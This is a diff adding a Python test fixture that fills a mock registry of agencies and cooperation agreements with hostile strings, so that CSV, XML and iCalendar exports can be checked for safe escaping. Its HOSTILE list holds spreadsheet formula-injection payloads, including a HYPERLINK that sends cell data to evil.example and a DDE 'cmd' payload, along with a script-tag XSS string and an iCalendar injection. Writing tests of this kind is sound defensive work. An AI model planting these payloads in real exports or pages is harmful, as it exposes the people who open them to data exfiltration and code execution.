@@ -1,0 +1,127 @@
+"""Records for the export tests: the repository's own, and a small registry whose every text field
+holds a hostile string (formulas, markup, iCalendar and CSV metacharacters)."""
+
+from __future__ import annotations
+
+import datetime as dt
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import yaml
+
+from site_builder import model, validate
+from site_builder.problems import Severity
+
+REPO = Path(__file__).resolve().parents[2]
+AS_OF = dt.date(2025, 6, 1)
+
+# Each starts a formula, closes markup, or carries a metacharacter of CSV, iCalendar or XML; the
+# long multibyte one forces iCalendar folding next to 2- to 4-byte UTF-8 sequences.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+SUM(A1:A9)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\tdiawali tab",
+    "</title></content><script>alert('x')</script>",
+    "]]> &amp; &lt;b&gt; <![CDATA[ x ]]>",
+    "titik koma; koma, garis miring \\ dan \"kutip\"",
+    "baris satu\nBEGIN:VEVENT\nSUMMARY:palsu",
+    "Kerja sama ✓ layanan kesehatan 漢字 dan 🚀 " * 4 + "akhir",
+]
+SOURCE = {"publisher": HOSTILE[5], "title": HOSTILE[0], "url": "https://example.org/berita?a=1&b=<2>",
+          "published": "2024-01-02", "author": HOSTILE[7], "note": HOSTILE[8]}
+
+
+def hostile(i: int) -> str:
+    return HOSTILE[i % len(HOSTILE)]
+
+
+def _agency(agency_id: str, i: int, kind: str, parent: str | None) -> dict:
+    return {"id": agency_id, "name": hostile(i), "short_name": hostile(i + 1), "kind": kind, "parent": parent,
+            "region": "63.07", "website": "https://example.org/?q=a,b;c",
+            "name_history": [{"name": hostile(i + 2), "short_name": hostile(i + 3), "parent": parent,
+                              "until": "2023-12-31", "original_wording": hostile(i + 4)}],
+            "original_wording": hostile(i + 5), "note": hostile(i + 6), "sources": [SOURCE]}
+
+
+def _agreement(agreement_id: str, partner: str, i: int, end: object, renews: str | None = None) -> dict:
+    record = {
+        "id": agreement_id, "title": hostile(i), "official_title": hostile(i + 1), "kind": "perjanjian-kerja-sama",
+        "signed": {"date": "2023-06-01", "place": hostile(i + 2)},
+        "parties": [
+            {"agency": "lapas-uji", "role": "pihak-pertama", "document_number": hostile(i + 3),
+             "signatory": {"name": hostile(i + 4), "position": hostile(i + 5)}},
+            {"agency": partner, "role": "pihak-kedua", "document_number": None, "signatory": None},
+        ],
+        "witnesses": [{"name": hostile(i + 6), "position": hostile(i + 7), "agency": partner}],
+        "scope": [{"id": "butir-satu", "theme": "kesehatan", "description": hostile(i + 8),
+                   "original_wording": hostile(i + 9)}],
+        "validity": {"start": "2023-06-01", "end": end, "note": hostile(i + 3), "original_wording": hostile(i + 4)},
+        "note": hostile(i + 5),
+        "sources": [SOURCE],
+    }
+    if renews:
+        record["relations"] = {"renews": renews}
+    return record
+
+
+def _plan(plan_id: str, agreement_id: str, partner: str, i: int) -> dict:
+    return {"id": plan_id, "agreement": agreement_id, "title": hostile(i), "note": hostile(i + 1),
+            "activities": [{
+                "id": "kegiatan-satu", "title": hostile(i + 2), "scope_item": "butir-satu",
+                "responsible": {"agency": partner, "unit": hostile(i + 3)},
+                "schedule": {"start": "2023-07-01", "end": "2023-12-31", "frequency": "bulanan"},
+                "indicator": hostile(i + 4), "target": {"value": 20, "unit": hostile(i + 5)},
+                "budget_source": "apbd", "status": "berjalan", "note": hostile(i + 6),
+                "original_wording": hostile(i + 7),
+                "progress": [{"date": "2023-09-30", "realisation": hostile(i + 8), "value": 7.5,
+                              "evidence": "https://example.org/bukti?x=1&y=2"}],
+            }],
+            "sources": [SOURCE]}
+
+
+RECORDS = {
+    "agencies/kanwil-uji.yaml": _agency("kanwil-uji", 0, "kantor-wilayah", None),
+    "agencies/lapas-uji.yaml": _agency("lapas-uji", 1, "upt-pemasyarakatan", "kanwil-uji"),
+    "agencies/dinas-uji.yaml": _agency("dinas-uji", 2, "perangkat-daerah", None),
+    "agencies/badan-uji.yaml": _agency("badan-uji", 3, "perangkat-daerah", None),
+    # exact end, ranged end, unknown end (no calendar event), and a renewal chain
+    "agreements/lapas-uji/lapas-uji-dinas-uji-2023.yaml":
+        _agreement("lapas-uji-dinas-uji-2023", "dinas-uji", 4, "2025-12-31", renews="lapas-uji-dinas-uji-lama"),
+    "agreements/lapas-uji/lapas-uji-badan-uji-2023.yaml":
+        _agreement("lapas-uji-badan-uji-2023", "badan-uji", 5, {"earliest": "2024-06-01", "latest": "2026-06-01"}),
+    "agreements/lapas-uji/lapas-uji-dinas-uji-lama.yaml": _agreement("lapas-uji-dinas-uji-lama", "dinas-uji", 6, None),
+    "agreements/lapas-uji/rencana-aksi/ra-lapas-uji-dinas-uji-2023.yaml":
+        _plan("ra-lapas-uji-dinas-uji-2023", "lapas-uji-dinas-uji-2023", "dinas-uji", 7),
+    "agreements/lapas-uji/rencana-aksi/ra-lapas-uji-badan-uji-2023.yaml":
+        _plan("ra-lapas-uji-badan-uji-2023", "lapas-uji-badan-uji-2023", "badan-uji", 8),
+}
+HOSTILE_SUBJECT = "Tambah <rekaman> & \"kutip\" ]]> =1+1"
+GIT_ENV = {"GIT_AUTHOR_NAME": "Uji", "GIT_AUTHOR_EMAIL": "uji@example.org", "GIT_COMMITTER_NAME": "Uji",
+           "GIT_COMMITTER_EMAIL": "uji@example.org", "GIT_AUTHOR_DATE": "2024-02-03T04:05:06+08:00",
+           "GIT_COMMITTER_DATE": "2024-02-03T04:05:06+08:00"}
+
+
+def git(root: Path, *args: str) -> str:
+    env = {**os.environ, **GIT_ENV, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
+    return subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True, text=True, env=env).stdout
+
+
+def write_registry(root: Path, records: dict[str, dict]) -> None:
+    shutil.copytree(REPO / "schema", root / "schema")
+    for relpath, data in records.items():
+        target = root / relpath
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=200), encoding="utf-8")
+
+
+def build(root: Path, as_of: dt.date = AS_OF) -> model.Registry:
+    """validate.validate then model.build, as `pks build` does; any error fails the fixture, so a
+    test can never pass on a registry that silently lost records."""
+    report, shaped = validate.validate(root, as_of)
+    errors = [p for p in report.problems if p.severity is Severity.ERROR]
+    assert not errors, errors
+    return model.build(shaped, as_of)
